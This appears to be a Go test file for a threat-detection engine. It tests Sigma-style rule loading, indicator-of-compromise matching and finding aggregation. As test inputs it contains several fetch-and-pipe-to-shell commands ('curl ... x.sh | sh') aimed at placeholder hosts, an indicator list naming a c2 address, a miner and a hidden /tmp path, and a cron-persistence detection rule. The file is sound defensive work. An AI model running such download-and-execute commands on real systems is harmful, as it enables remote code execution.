package findings

import (
	"strings"
	"testing"
)

// ruleOf loads one rule whose detection is given.
func ruleOf(t testing.TB, detection string) (*Set, error) {
	s := &Set{}
	doc := "title: t\nid: x\nlevel: high\ntags: [attack.t1000]\nlogsource: {product: lagan, category: command}\ndetection:\n  " + strings.ReplaceAll(strings.TrimSpace(detection), "\n", "\n  ") + "\n"
	return s, s.Load("test", []byte(doc))
}

func TestMatch(t *testing.T) {
	sub := NewSubject(KindCommand)
	sub.Set("command", `/usr/bin/CURL -s http://203.0.113.7/x.sh?a=1 | sh \path`)
	sub.Set("ip_address", "203.0.113.7")
	sub.Set("size", "1024")
	sub.List("env", []string{"A=1", "PASSWORD=x"})
	for _, c := range []struct {
		detection string
		want      bool
	}{
		{"a: {command|contains: curl}\ncondition: a", true},
		{"a: {command|contains|cased: curl}\ncondition: a", false},
		{"a: {command|contains|all: [curl, ' sh']}\ncondition: a", true},
		{"a: {command|contains|all: [curl, wget]}\ncondition: a", false},
		{"a: {command|startswith: /usr/bin/curl}\ncondition: a", true},
		{"a: {command|endswith: '\\path'}\ncondition: a", true},
		{"a: {command: '*curl*sh*'}\ncondition: a", true},
		{"a: {command: '?usr*'}\ncondition: a", true},
		{"a: {command: 'usr*'}\ncondition: a", false},
		{"a: {command|contains: 'x.sh\\?a'}\ncondition: a", true},
		{"a: {command|re: 'http://[0-9.]+/'}\ncondition: a", true},
		{"a: {command|re|i: '/curl '}\ncondition: a", true},
		{"a: {command|re: '/curl '}\ncondition: a", false},
		{"a: {ip_address|cidr: 203.0.113.0/24}\ncondition: a", true},
		{"a: {ip_address|cidr: 10.0.0.0/8}\ncondition: a", false},
		{"a: {size|gt: 1000}\nb: {size|lte: 1023}\ncondition: a and not b", true},
		{"a: {env|startswith: PASSWORD}\ncondition: a", true},
		{"a: {user: null}\ncondition: a", true},
		{"a: {user|exists: false}\ncondition: a", true},
		{"a: {command|exists: true}\ncondition: not a", false},
		{"a: [curl, wget]\ncondition: a", true},
		{"a: [{command|contains: wget}, {size: 1024}]\ncondition: a", true},
		{"one: {size: 1024}\ntwo: {size: 1}\ncondition: 1 of *o*", true},
		{"one: {size: 1024}\ntwo: {size: 1}\ncondition: all of them", false},
		{"one: {size: 1024}\ntwo: {size: 1}\ncondition: one and (two or not two)", true},
		{"a1: {size: 1}\na2: {size: 2}\ncondition: not 1 of a*", true},
	} {
		s, err := ruleOf(t, c.detection)
		if err != nil {
			t.Errorf("%s: %v", c.detection, err)
			continue
		}
		if got := len(s.Match(sub)) == 1; got != c.want {
			t.Errorf("%s: matches %v, want %v", c.detection, got, c.want)
		}
	}
}

func TestLoadErrors(t *testing.T) {
	for _, c := range []struct{ detection, says string }{
		{"a: {command|contains: x}\ncondition: b", "no selection"},
		{"a: {command|contains: x}\ncondition: (a", "not closed"},
		{"a: {command|contains: x}\ncondition: a a", "not expected"},
		{"a: {command|contains: x}\ncondition: a | count() > 5", "not expected"},
		{"a: {command|re: '('}\ncondition: a", "missing closing"},
		{"a: {command|fieldref: user}\ncondition: a", "not supported"},
		{"a: {ip_address|cidr: x}\ncondition: a", "ParsePrefix"},
		{"a: {EventID: 1}\ncondition: a", "can't match"},
		{"a: {command|contains: x}", "condition"},
		{"a: {command|contains: x}\ncondition: " + strings.Repeat("not ", 200) + "a", "nested"},
	} {
		if _, err := ruleOf(t, c.detection); err == nil || !strings.Contains(err.Error(), c.says) {
			t.Errorf("%s: error %v, want one with %q", c.detection, err, c.says)
		}
	}
}

// A rule as sigma's repository has them: read as it is.
const sigmaCron = `title: Persistence Via Cron Files
id: 6c4e2f43-d94d-4ead-b64d-97e53fa2bd05
status: test
description: Detects creation of cron file or files in Cron directories
references:
    - https://github.com/example/attack
author: somebody
date: 2021-10-15
tags:
    - attack.persistence
    - attack.t1053.003
logsource:
    product: linux
    category: file_event
detection:
    selection1:
        TargetFilename|startswith:
            - '/etc/cron.d/'
            - '/etc/cron.daily/'
    selection2:
        TargetFilename|contains: '/etc/crontab'
    condition: 1 of selection*
falsepositives:
    - Any legitimate cron file.
level: medium
`

func TestSigma(t *testing.T) {
	s := &Set{}
	if err := s.Load("cron.yml", []byte(sigmaCron)); err != nil {
		t.Fatal(err)
	}
	sub := NewSubject(KindFile)
	sub.Set("path", "/etc/cron.d/x")
	if len(s.Match(sub)) != 0 {
		t.Error("a file that nobody wrote is no file_event")
	}
	sub.Flag("recent", true)
	m := s.Match(sub)
	if len(m) != 1 || m[0].Rule.Level != Medium || m[0].Rule.Techniques()[0] != "T1053.003" || m[0].Field != "TargetFilename" {
		t.Errorf("matches %+v", m)
	}
	if err := s.Load("again", []byte(sigmaCron)); err == nil {
		t.Error("two rules have one id")
	}
	windows := strings.Replace(strings.Replace(sigmaCron, "product: linux", "product: windows", 1), "6c4e", "7c4e", 1)
	if err := s.Load("windows", []byte(windows)); err == nil {
		t.Error("a rule for Windows was taken")
	}
	if err := s.Load("two", []byte("title: a\n---\n"+strings.Replace(sigmaCron, "6c4e", "8c4e", 1))); err == nil || len(s.Rules) != 2 {
		t.Errorf("a bad document: error %v, %d rules, want the good one beside it", err, len(s.Rules))
	}
}

func TestBase64Offset(t *testing.T) {
	s, err := ruleOf(t, "a: {command|base64offset|contains: /bin/bash}\ncondition: a")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{"L2Jpbi9iYXNo", "eC9iaW4vYmFzaA==", "eHgvYmluL2Jhc2g="} {
		sub := NewSubject(KindCommand)
		sub.Set("command", "echo "+c)
		if len(s.Match(sub)) != 1 {
			t.Errorf("%s is not found", c)
		}
	}
}

func TestCollection(t *testing.T) {
	var c Collection
	each, all, less := &Rule{ID: "each", Level: High}, &Rule{ID: "all", Group: GroupNode}, &Rule{ID: "less", Level: Medium, Unless: []string{"each"}}
	a, b := &Container{ID: "a", Name: "a"}, &Container{ID: "b", Name: "b"}
	for _, owner := range []*Container{a, b} {
		for range 2 { // told twice, counted once
			c.Add(each, "", Evidence{Place: owner.Name, Container: owner})
			c.Add(all, "", Evidence{Place: owner.Name, Container: owner})
			c.Add(less, "", Evidence{Place: owner.Name, Container: owner})
		}
	}
	c.Add(less, "", Evidence{Place: "elsewhere", Container: b})
	var got []string
	for _, f := range c.Findings() {
		got = append(got, f.Rule.ID+" "+f.Object()+" "+strings.Repeat("+", f.Total))
	}
	if want := "each a +,each b +,less b ++,all @node ++"; strings.Join(got, ",") != want {
		t.Errorf("findings %q, want %q", got, want)
	}
	for i := range 2 * MaxEvidence {
		c.Add(each, "", Evidence{Place: strings.Repeat("x", i), Container: a})
	}
	if f := c.Findings()[0]; len(f.Evidence) != MaxEvidence || f.Total != 2*MaxEvidence+1 {
		t.Errorf("kept %d of %d", len(f.Evidence), f.Total)
	}
}

func TestIndicators(t *testing.T) {
	in, err := ReadIndicators(strings.NewReader("# list\n203.0.113.80 # c2\n198.51.100.0/24\nevil[.]example\nhxxp://dl.example.org/x.sh\n/tmp/.x/run\nfile,kdev.sh\n" +
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nmd5:d41d8cd98f00b204e9800998ecf8427e\nxmrig\n2001:db8::1\nc2.example.net/gate\n192.0.2.9:8080/x.sh\n"))
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]string{
		"curl http://203.0.113.80/zzz.sh|sh": "203.0.113.80", "to 198.51.100.7:443 now": "198.51.100.0/24", "GET a.b.evil.example/": "evil[.]example",
		"wget http://dl.example.org/x.sh": "hxxp://dl.example.org/x.sh", "sh /tmp/.x/run -d": "/tmp/.x/run", "203.0.113.8": "", "203.0.113.801": "",
		"notevil.example": "", "./xmrig -o": "xmrig", "[2001:db8::1]:80": "2001:db8::1", "GET http://c2.example.net/gate HTTP/1.1": "c2.example.net/gate", "curl 192.0.2.9:8080/x.sh | sh": "192.0.2.9:8080/x.sh", "/tmp/.x/runner": "", "": "",
	} {
		if got, _, _ := in.Text(text); got != want {
			t.Errorf("in %q: %q, want %q", text, got, want)
		}
	}
	if _, ok := in.Path("/opt/KDEV.sh"); !ok {
		t.Error("a file's name is not found")
	}
	if m, s1, s256 := in.Hashes(); !m || s1 || !s256 {
		t.Error("the hashes that are needed are wrong")
	}
	if _, err := ReadIndicators(strings.NewReader("domain:not a domain but a very long text/with\nip:300.1.1.1\n")); err == nil {
		t.Error("300.1.1.1 was taken for an address")
	}
	for _, noise := range []string{"\x7fELF\x02\x01", "usr/bin/x", strings.Repeat("x", 256), "a\x00b"} {
		if _, err := ReadIndicators(strings.NewReader("xmrig\n" + noise)); err == nil || !strings.HasPrefix(err.Error(), "line 2: ") {
			t.Errorf("%.20q: %v", noise, err)
		}
	}
}

func FuzzLoad(f *testing.F) {
	f.Add([]byte(sigmaCron))
	f.Add([]byte("title: a\nid: b\nlogsource: {product: lagan, category: text}\ndetection: {a: {command|re: 'x'}, condition: 1 of a*}"))
	f.Add([]byte("&a [*a]"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s := &Set{}
		if s.Load("fuzz", b) != nil && len(s.Rules) == 0 {
			return
		}
		for _, kind := range []string{KindFile, KindCommand, KindLog, KindContainer} {
			sub := NewSubject(kind)
			sub.Set("path", "/etc/passwd")
			sub.Set("command", string(b))
			s.Match(sub)
		}
	})
}

func FuzzIndicators(f *testing.F) {
	f.Add("203.0.113.80\n", "curl http://203.0.113.80/")
	f.Add("evil[.]example\n/tmp/x", "a.evil.example /tmp/x")
	f.Fuzz(func(t *testing.T, list, text string) {
		in, err := ReadIndicators(strings.NewReader(list))
		if err != nil {
			return
		}
		in.Text(text)
		in.Path(text)
	})
}

// BenchmarkMatch holds a container's changed file against all rules.
func BenchmarkMatch(b *testing.B) {
	s, err := Default()
	if err != nil {
		b.Fatal(err)
	}
	text := strings.Repeat("def handle(self, request):\n    return self.cache['key'] or None\n", 8)
	b.ReportAllocs()
	for b.Loop() {
		f := NewSubject(KindFile)
		for field, value := range map[string]string{"where": "container", "change": "modified", "type": "file", "path": "/usr/lib/python3/d001/module.py", "name": "module.py", "dir": "/usr/lib/python3/d001", "mode": "0644", "executable": "false"} {
			f.Set(field, value)
		}
		f.List("changed", []string{"content", "mtime"})
		f.Lazy(TextField, func() string { return text })
		f.Lazy("added_text", func() string { return text })
		if got := s.Match(f); len(got) != 0 {
			b.Fatal(got)
		}
	}
}
